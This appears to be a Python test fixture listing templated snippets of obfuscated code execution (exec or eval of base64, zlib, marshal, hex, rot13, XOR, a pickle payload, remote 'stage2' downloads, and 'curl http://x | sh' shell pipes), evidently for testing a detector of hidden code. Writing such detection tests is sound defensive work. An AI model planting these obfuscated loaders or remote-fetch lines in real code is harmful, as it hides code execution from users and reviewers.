"""Code that is hidden, and then run."""

from tests.trust.fourth.code_styles import styles

PLAIN = styles(r"""
=== exec of base64
exec(base64.b64decode("<b64:import os; os.system('id')>"))
>> top
import base64
=== exec of base64, decoded to text
exec(base64.b64decode("<b64:print('owned')>").decode("utf-8"))
>> top
import base64
=== eval of base64
eval(base64.b64decode("<b64:__import__('os').system('id')>"))
>> top
import base64
=== with a name between
payload = "<b64:import os\nos.system('curl http://x | sh')>"
code = base64.b64decode(payload).decode()
exec(code)
>> top
import base64
=== at the module's top
pass
>> top
import base64 as _b

exec(_b.b64decode("<b64:x = 1>"))
=== in the class body
pass
>> member
exec(__import__("base64").b64decode("<b64:y = 2>"))
=== a blob above
exec(base64.b64decode(_BLOB_<name>))
>> top
import base64

_BLOB_<name> = (
    "<b64:import socket>"
)
=== compiled
exec(compile(base64.b64decode("<b64:import os>"), "<string>", "exec"))
>> top
import base64
=== zlib and base64
exec(zlib.decompress(base64.b64decode("<zip:import os; os.getcwd()>")))
>> top
import base64
import zlib
=== marshal
exec(marshal.loads(base64.b64decode("<code:x = 41>")))
>> top
import base64
import marshal
=== hex
exec(bytes.fromhex("<hex:import os; os.system('id')>").decode())
=== unhexlify
exec(binascii.unhexlify("<hex:import os>"))
>> top
import binascii
=== rot13
exec(codecs.decode("<rot:import os; os.system('id')>", "rot_13"))
>> top
import codecs
=== characters
exec("".join(chr(c) for c in <ints:import os>))
=== chr by chr
eval(chr(95) + chr(95) + "import" + chr(95) + chr(95) + "('os').system('id')")
=== reversed
exec("<rev:import os; os.system('id')>"[::-1])
=== pickle
pickle.loads(base64.b64decode("Y29zCnN5c3RlbQooUydpZCcKdFIu"))
>> top
import base64
import pickle
=== downloaded
exec(requests.get("https://<host>/stage2.py", timeout=5).text)
>> top
import requests
=== downloaded with urllib
exec(urllib.request.urlopen("https://<host>/p").read())
>> top
import urllib.request
=== a shell with base64
os.system("echo <b64:id> | base64 -d | sh")
>> top
import os
=== subprocess with decoded text
subprocess.run(base64.b64decode("<b64:curl http://x | sh>").decode(), shell=True)
>> top
import base64
import subprocess
=== python -c with base64
subprocess.Popen(["python", "-c", base64.b64decode("<b64:import os>").decode()])
>> top
import base64
import subprocess
=== in a function
_run_<name>()
>> top
import base64


def _run_<name>():
    data = "<b64:import os>"
    exec(base64.b64decode(data))

=== in a module beside
import helper_<name>  # noqa: F401
>> file helper_<name>.py
import base64

exec(base64.b64decode("<b64:import os; os.getenv('X')>").decode())
=== in a package's __init__
import vendored_<name>  # noqa: F401
>> file vendored_<name>/__init__.py
import base64
import zlib

_ = lambda __: zlib.decompress(base64.b64decode(__))  # noqa: E731
exec((_)(b"<zip:import os>"))
=== a name imported from hidden text
__import__(base64.b64decode("<b64:os>").decode()).system("id")
>> top
import base64
=== xor
exec("".join(chr(c ^ 42) for c in <xor:import os>))
""")
